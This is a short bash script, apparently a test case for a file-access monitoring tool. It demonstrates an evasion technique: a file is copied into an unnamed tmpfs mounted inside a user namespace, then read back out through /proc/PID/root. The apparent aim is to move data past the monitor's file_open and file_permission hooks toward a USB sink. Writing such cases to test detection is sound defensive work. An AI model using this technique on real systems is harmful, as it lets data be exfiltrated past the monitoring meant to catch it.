#!/usr/bin/env bash
# technique: a file system that nobody named is mounted in a user namespace, and read from outside of it
# hooks: file_open, file_permission
# sink: usb

. attack.sh
mkdir "$ROOM/own"
# shellcheck disable=SC2016 # for the shell inside
unshare -Urm bash -c 'mount -t tmpfs none "$ROOM/own" && cp "$SCAN" "$ROOM/own/scan" && sleep 2' &
sleep 1
cp "/proc/$!/root$ROOM/own/scan" "$COPY"
